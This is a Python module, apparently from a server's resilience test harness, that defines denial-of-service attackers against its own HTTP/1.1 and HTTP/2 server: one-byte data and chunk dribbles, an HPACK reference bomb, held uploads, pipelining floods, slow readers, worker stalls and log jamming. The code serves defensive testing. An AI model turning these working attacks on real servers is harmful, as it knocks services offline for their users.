"""The attacks: the actions of one attacker, and the combinations of attackers.

An attacker is a function of the server's address and of the time, by the monotonic clock, at which it stops. It runs in a
process of its own. If the server ends its connection it makes a new one, so that the attack goes on.
"""

import collections
import contextlib
import dataclasses
import functools
import select
import socket
import threading
import time
from collections.abc import Callable

import http2
from http2 import Address
from server import MEGABYTE

Attacker = Callable[[Address, float], None]
#: How long an attacker waits before it connects again, in seconds: connecting in a loop would be another attack.
PAUSE = 0.01


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    #: The attackers that are started at once, by the number of the server's workers.
    attackers: Callable[[int], list[Attacker]]
    #: Whether one worker is blocked and no other, so that the others can serve without a delay.
    blocks_one_worker: bool = False
    stderr_is_jammed: bool = False
    #: The server's limit of address space in bytes.
    address_space: int | None = None
    #: The number of the attackers' connections by which the growth of resident memory is divided and reported.
    connections: int | None = None
    #: Whether an honest client also asks for blocking work, which has to be done or refused at once.
    asks_for_blocking: bool = False


def again_and_again(attempt: Callable[[Address, float], None]) -> Attacker:
    """An attacker that starts `attempt` again each time that it ends or loses its connection."""

    @functools.wraps(attempt)
    def attacker(address: Address, until: float) -> None:
        while time.monotonic() < until:
            with contextlib.suppress(http2.Ended, OSError):
                attempt(address, until)
            time.sleep(PAUSE)

    return attacker


# HTTP/2


@again_and_again
def data_dribble(address: Address, until: float) -> None:
    """Uploads without end, in DATA frames of one byte, as fast as flow control allows."""
    # Enough that the server always finds more to read: as much as it allows a client to send before it reads any.
    most = http2.DEFAULT_WINDOW
    dribble = http2.frame(http2.DATA, 0, 1, b"x") * most
    size = len(dribble) // most
    with http2.Connection(address) as connection:
        connection.queue(http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.head("POST", "/echo")))
        while time.monotonic() < until:
            count = min(connection.room_on(1), most)
            if count > 0 and connection.queued < len(dribble):
                connection.queue_content(1, dribble[: count * size], count)
            connection.turn(0.1)


@again_and_again
def hpack_bomb(address: Address, until: float) -> None:
    """Sends heads with 16,000 references, one byte each, to a field of 4 KB."""
    # RFC 7541 section 4.1: an entry counts for 32 bytes more than it has, and the table has 4,096.
    field = http2.line("x", "y" * 4063, into_table=True)
    begin = http2.head("GET", "/plaintext")
    bomb = begin + http2.reference(62) * 16_000
    flags = http2.END_HEADERS | http2.END_STREAM
    with http2.Connection(address) as connection:
        connection.queue(http2.frame(http2.HEADERS, flags, 1, begin + field))
        sent = 1
        while time.monotonic() < until:
            # Fewer in flight than the 100 that a server allows.
            while sent - connection.ended < 50 and connection.queued < MEGABYTE:
                connection.queue(http2.frame(http2.HEADERS, flags, 2 * sent + 1, bomb))
                sent += 1
            connection.turn(0.1)


@again_and_again
def failing_handler(address: Address, until: float) -> None:
    """Makes a handler throw an error, which the server logs."""
    with socket.create_connection(address, 5) as connection:
        connection.settimeout(5)
        while time.monotonic() < until:
            connection.sendall(b"GET /fail HTTP/1.1\r\nHost: localhost\r\n\r\n" * 50)
            connection.recv(65_536)


HELD_CONNECTIONS, HELD_POSTS, HELD_LENGTH = 40, 100, 64_000


@dataclasses.dataclass
class _Upload:
    """The content of a stream that is not sent yet."""

    stream: int
    left: int = HELD_LENGTH


def held_posts(address: Address, until: float) -> None:
    """Opens many connections with as many uploads as allowed, whose responses the server cannot send."""
    with contextlib.ExitStack() as cleanup:
        held: list[tuple[http2.Connection, collections.deque[_Upload]]] = []
        for _ in range(HELD_CONNECTIONS):
            with contextlib.suppress(OSError):
                connection = cleanup.enter_context(http2.Connection(address, initial_window=0, timeout=1))
                uploads = collections.deque(_Upload(2 * number + 1) for number in range(HELD_POSTS))
                for upload in uploads:
                    head = http2.frame(
                        http2.HEADERS, http2.END_HEADERS, upload.stream, http2.head("POST", "/echo"))
                    connection.queue(head)
                held.append((connection, uploads))
        while held and time.monotonic() < until:
            for connection, uploads in list(held):
                try:
                    _go_on(connection, uploads)
                except http2.Ended:
                    held.remove((connection, uploads))
            time.sleep(0.001)


def _go_on(connection: http2.Connection, uploads: collections.deque[_Upload]) -> None:
    """Sends as much of `uploads` as the server's windows allow."""
    while uploads and connection.queued < 65_536:
        upload = uploads[0]
        length = min(upload.left, connection.room_on(upload.stream), 16_000)
        if length <= 0:
            break
        upload.left -= length
        flags = 0 if upload.left else http2.END_STREAM
        connection.queue_content(upload.stream, http2.frame(http2.DATA, flags, upload.stream, bytes(length)), length)
        if not upload.left:
            uploads.popleft()
    connection.turn()


# HTTP/1.1


@again_and_again
def stall(address: Address, until: float) -> None:
    """Makes one handler after another block its worker for a second."""
    with socket.create_connection(address, 5) as connection:
        connection.sendall(b"GET /stall?ms=1000 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        while connection.recv(65_536):
            pass


def block_flood(address: Address, until: float) -> None:
    """Holds many requests for blocking work that takes a minute."""
    with contextlib.ExitStack() as cleanup:
        for _ in range(800):
            with contextlib.suppress(OSError):
                connection = cleanup.enter_context(socket.create_connection(address, 1))
                connection.sendall(b"GET /block?ms=60000 HTTP/1.1\r\nHost: localhost\r\n\r\n")
        time.sleep(max(0, until - time.monotonic()))


@again_and_again
def pipeline(address: Address, until: float) -> None:
    """Pipelines requests as fast as it can, and reads the answers."""
    _pour(address, until, b"", b"GET /plaintext HTTP/1.1\r\nHost: localhost\r\n\r\n" * 20_000)


@again_and_again
def chunk_dribble(address: Address, until: float) -> None:
    """Uploads without end in chunks of one byte, and reads what comes back."""
    head = b"POST /echo HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    _pour(address, until, head, b"1\r\nx\r\n" * 200_000)


def _pour(address: Address, until: float, begin: bytes, more: bytes) -> None:
    """Sends `begin`, then `more` repeatedly, and reads all output."""
    with socket.create_connection(address, 5) as connection:
        connection.setblocking(False)
        left = memoryview(begin + more)
        while time.monotonic() < until:
            readable, writable, _ = select.select([connection], [connection], [], 0.1)
            if readable and not connection.recv(262_144):
                return
            if writable:
                left = left[connection.send(left) :] or memoryview(more)


def slow_reader(address: Address, until: float) -> None:
    """Makes many downloads, and reads a few bytes at a time."""
    with contextlib.ExitStack() as cleanup:
        for _ in range(16):
            connection = cleanup.enter_context(socket.socket())
            # Set before it connects, so that the window of TCP is small.
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.settimeout(1)
            reader = threading.Thread(target=_sip, args=(connection, address, until))
            reader.start()
            cleanup.callback(reader.join)


def _sip(connection: socket.socket, address: Address, until: float) -> None:
    with contextlib.suppress(OSError):
        connection.connect(address)
        connection.sendall(b"GET /stream?ms=0&count=1000000 HTTP/1.1\r\nHost: localhost\r\n\r\n")
        while time.monotonic() < until and connection.recv(256):
            time.sleep(0.002)


# All attacks


def _alone(attacker: Attacker) -> Callable[[int], list[Attacker]]:
    return lambda workers: [attacker]


ATTACKS = [
    Attack("data-dribble", _alone(data_dribble)),
    Attack("hpack-bomb", lambda workers: [hpack_bomb, hpack_bomb]),
    Attack("stall-one", _alone(stall), blocks_one_worker=True),
    Attack("stall-all", lambda workers: [stall] * workers),
    Attack("log-jam", lambda workers: [failing_handler] * 2, stderr_is_jammed=True),
    Attack("block-flood", _alone(block_flood), asks_for_blocking=True),
    Attack("held-posts", _alone(held_posts), address_space=300 * MEGABYTE, connections=HELD_CONNECTIONS),
    Attack("pipeline", _alone(pipeline)),
    Attack("chunk-dribble", _alone(chunk_dribble)),
    Attack("slow-reader", _alone(slow_reader)),
]
